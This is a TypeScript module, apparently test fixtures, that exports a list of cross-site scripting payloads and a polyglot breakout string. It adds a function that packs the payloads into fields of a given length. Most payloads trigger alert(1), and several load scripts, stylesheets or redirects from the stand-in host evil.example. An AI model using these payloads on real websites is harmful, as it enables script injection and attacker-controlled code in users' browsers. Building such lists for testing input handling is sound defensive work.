/** Texts that run, load or leave something where a page takes them for markup, from the usual cheat sheets. */
export const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'><img src=//evil.example/x onerror='alert(1)",
  '</script><script>alert(1)</script>',
  '</title></textarea></style></noscript><svg onload=alert(1)>',
  '" onfocus="alert(1)" autofocus tabindex="1',
  "' onmouseover='alert(1)' style='position:fixed;inset:0",
  'javascript:alert(1)//',
  '<a href="javascript:alert(1)">x</a><iframe src=javascript:alert(1)>',
  '--><!--><script>alert(1)</script><![CDATA[<svg onload=alert(1)>]]>',
  '<details open ontoggle=alert(1)><summary>x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a template
  "{{constructor.constructor('alert(1)')()}}${alert(1)}#{alert(1)}",
  "<style>@import'//evil.example/a.css';*{background:url(//evil.example/b)}</style>",
  '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example><button formaction=javascript:alert(1)>alert(1)',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template><object data=//evil.example/x>',
  '&lt;img src=x onerror=alert(1)&gt;&#60;svg onload=alert(1)&#62;',
  '%3Csvg%20onload%3Dalert(1)%3E\\u003csvg onload=alert(1)\\x3e',
  '"-alert(1)-"\';alert(1);//`',
  ']]></title><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<svg><script href=//evil.example/x.js /><animate onbegin=alert(1)>',
  // Ends a line in JavaScript. Only long fields have several lines.
  "alert(1)//\u2028alert(1)//\u2029';alert(1)",
] as const;

/** Breaks out of most places at once, in a hundred characters. */
export const polyglot =
  '</title></style></textarea></script>--><svg onload=alert(1)>"\'><img src=x onerror=alert(1)>';

const LONG_FIELD = 1000;

/** As many of them as fit into so many characters, beginning with the one at an index. */
export function packed(most: number, first: number): string {
  let text = '';
  for (let index = 0; index < payloads.length; index += 1) {
    const next = payloads[(first + index) % payloads.length] ?? '';
    const longer = text ? `${text} ${next}` : next;
    const fits = longer.length <= most && (most >= LONG_FIELD || !/[\u2028\u2029]/.test(next));
    if (fits) text = longer;
  }
  return text;
}
